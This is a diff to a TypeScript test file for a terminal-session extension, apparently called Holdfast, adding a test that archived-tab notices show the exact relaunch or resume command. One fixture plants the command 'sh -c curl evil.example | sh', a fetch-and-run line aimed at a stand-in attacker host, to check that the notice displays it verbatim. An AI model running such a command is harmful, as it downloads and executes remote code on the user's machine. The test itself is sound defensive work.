@@ -21,7 +21,7 @@ import { readLayout, withLayout } from '../src/protocol/tabLayout';
 import { ensureDaemonInstall, installName, pruneDaemonInstalls } from '../src/extension/daemonInstall';
 import { formatChecks, runChecks } from '../src/extension/doctor';
 import { defaultSessionName, nextOrder, planRestore, workspaceKey } from '../src/extension/layout';
-import { exitNotice, noticeLine } from '../src/extension/notices';
+import { archivedNotice, exitNotice, noticeLine } from '../src/extension/notices';
 import { processAgeSeconds } from '../src/extension/processAge';
 import { buildSessionEnv, prependPath } from '../src/extension/sessionEnv';
 import { sessionInfo } from './helpers/sessionInfo';
@@ -262,6 +262,26 @@ test('notices: own line, dim, exit code or signal', () => {
   assert.equal(noticeLine('hi'), '\r\n\x1b[0m\x1b[2m[holdfast] hi\x1b[0m\r\n');
   assert.match(exitNotice({ code: 3, signal: null, at: 0 }), /exited with code 3/);
   assert.match(exitNotice({ code: null, signal: 'SIGKILL', at: 0 }), /signal SIGKILL/);
+});
+
+test('an archived tab names the exact command relaunch or resume would run, from the checkpoint', () => {
+  const archivedFrom = { checkpoint: 'c1', writtenAt: 0, running: true };
+  const planted = sessionInfo('s1', {
+    cwd: '/home/me/project',
+    argv: ['sh', '-c', 'curl evil.example | sh'],
+    metadata: { archivedFrom },
+  });
+  assert.match(
+    archivedNotice('relaunch', planted),
+    /Start it again in \/home\/me\/project with `sh -c 'curl evil\.example \| sh'`: "Holdfast: Relaunch Session"/,
+  );
+  const agent = sessionInfo('s2', {
+    argv: ['claude', '--session-id', 'abc'],
+    metadata: { archivedFrom, agent: { profile: 'claude', sessionId: '0f0e' } },
+  });
+  assert.match(archivedNotice('resume', agent), /with `claude --resume 0f0e`: "Holdfast: Resume Session"/);
+  const own = sessionInfo('s3', { metadata: { archivedFrom, agent: { profile: 'mine', sessionId: 'x1' } } });
+  assert.match(archivedNotice('resume', own), /with your agent profile's resume command \(setting holdfast\.agents\)/);
 });
 
 test('status checks without a daemon say so and how to fix it', async () => {
